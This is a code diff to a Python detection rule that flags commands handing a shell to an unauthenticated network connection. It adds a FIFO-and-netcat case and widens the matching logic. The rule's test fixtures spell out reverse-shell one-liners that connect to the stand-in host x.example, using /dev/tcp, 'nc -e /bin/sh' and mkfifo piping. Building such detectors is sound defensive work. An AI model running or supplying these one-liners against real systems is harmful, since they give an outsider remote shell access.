@@ -27,15 +27,18 @@ READS_SETTINGS = frozenset(
     match=[
         ("bash -i >&/dev/tcp/x.example/99 0>&1", "network-raw"),
         ("nc -e /bin/sh x.example 99", "network-connects", "execution-escape"),
+        ("mkfifo f; sh <f | nc x.example 99 >f", "network-connects", "writes-file", "execution-unread-code"),
     ],
-    not_match=["bash -i", "ssh x.example", "ssh x.example bash", "nc x.example 99; bash"],
+    not_match=["bash -i", "ssh x.example", "ssh x.example bash", "nc x.example 99; bash", "mkfifo f; nc x.example 99 <f | ./tool >f"],
 )
 def shell_handed_over(effects: Sequence[Effect], context: Context) -> Effect | None:
-    shell = next((e for e in effects if e.kind == "exec-code" and "interactive" in e.flags), None)
+    shells = (e for e in effects if e.kind == "exec-code" and ("interactive" in e.flags or "fifo" in e.taint))
+    shell = next(shells, None)
     if shell is None:
         return None
     raw = any(e.scope == "remote" and e.kind in ("write", "append", "read") for e in effects)
-    handed = any(e.kind == "connect" and "unauthenticated" in e.flags and e.program in shell.via for e in effects)
+    connects = (e for e in effects if e.kind == "connect" and "unauthenticated" in e.flags)
+    handed = any(e.program in shell.via or "fifo" in shell.taint for e in connects)
     return shell if raw or handed or any(e.kind == "listen" for e in effects) else None
 
 
